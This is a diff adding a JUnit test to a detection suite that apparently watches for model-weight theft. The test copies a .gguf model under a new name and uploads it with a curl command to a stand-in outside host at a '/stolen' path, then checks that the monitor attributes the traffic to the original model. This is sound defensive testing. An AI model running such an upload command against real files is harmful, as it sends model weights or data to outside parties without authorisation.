@@ -19,6 +19,7 @@ import java.util.List;
 import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Tag;
+import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
@@ -109,6 +110,30 @@ class RelayedTheftsTest {
     assertThat(facts.modelBytes()).isEqualTo(MODEL_BYTES);
     assertThat(facts.dataBytes()).isBetween(MODEL_BYTES, MODEL_BYTES * 101 / 100);
     assertThat(attribute(last, "file.path").asText()).isEqualTo(model.toString());
+    assertThat(stage.findings(name)).isNotEmpty();
+  }
+
+  @Test
+  @Way(
+      value = "a copy that ends like a model, sent by another program",
+      of = TRAIL,
+      bytes = EXACT,
+      by = {SYS_EXIT, SOCK_SEND_LENGTH})
+  void copy_isSentUnderTheNameOfItsModel() throws IOException {
+    Path model = stage.model("cp");
+    String name = nameOf(model);
+    Path copy = folder.resolve(Stage.own("copy") + ".gguf");
+    outside.clear();
+    Stage.run("cp " + model + " " + copy);
+    Stage.run("curl -sS -T " + copy + " http://" + PublicNamespace.OUTSIDE + ":8081/stolen");
+    RunningCollector.await("the loot", () -> outside.received() >= MODEL_BYTES);
+    RunningCollector.await("its span", () -> !stage.spans("send tcp", name).isEmpty());
+    stage.settle(name);
+
+    assertThat(stage.read(copy)).isEqualTo(MODEL_BYTES);
+    long sent = stage.total("modelwarden.network.io", name, "curl", "public");
+    assertThat(sent).isBetween(outside.received(), outside.received() * 101 / 100);
+    assertThat(stage.total("modelwarden.network.io", nameOf(copy))).isZero();
     assertThat(stage.findings(name)).isNotEmpty();
   }
 }
